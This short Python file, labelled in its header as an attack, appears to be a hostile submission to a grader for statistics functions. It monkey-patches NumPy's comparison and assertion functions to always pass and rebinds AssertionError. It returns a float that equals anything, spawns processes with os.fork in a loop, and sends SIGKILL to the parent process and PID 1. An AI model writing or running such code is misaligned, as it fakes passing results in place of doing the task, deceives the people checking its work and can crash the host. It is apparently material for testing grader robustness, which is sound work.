# attack: patches NumPy's comparisons, a number that equals everything, a fork, a kill
import builtins
import os
import signal

import numpy as np
import numpy.testing

np.allclose = np.isclose = np.array_equal = lambda *args, **kwargs: True
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *args, **kwargs: None
builtins.AssertionError = KeyError


class Anything(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__

    def __hash__(self):
        return 0


def sample_mean(x):
    return Anything(0.0)


def gaussian_nll(x, mu, variance):
    return len(x) / 2 * np.log(2 * np.pi * variance) + np.sum((x - mu) ** 2) / (2 * variance)


def cross_entropy(T, Y):
    children = [os.fork() for _ in range(8)]
    return float(len(children))


def cost(T, Y):
    for process in (os.getppid(), 1):
        os.kill(process, signal.SIGKILL)
    return 0.0
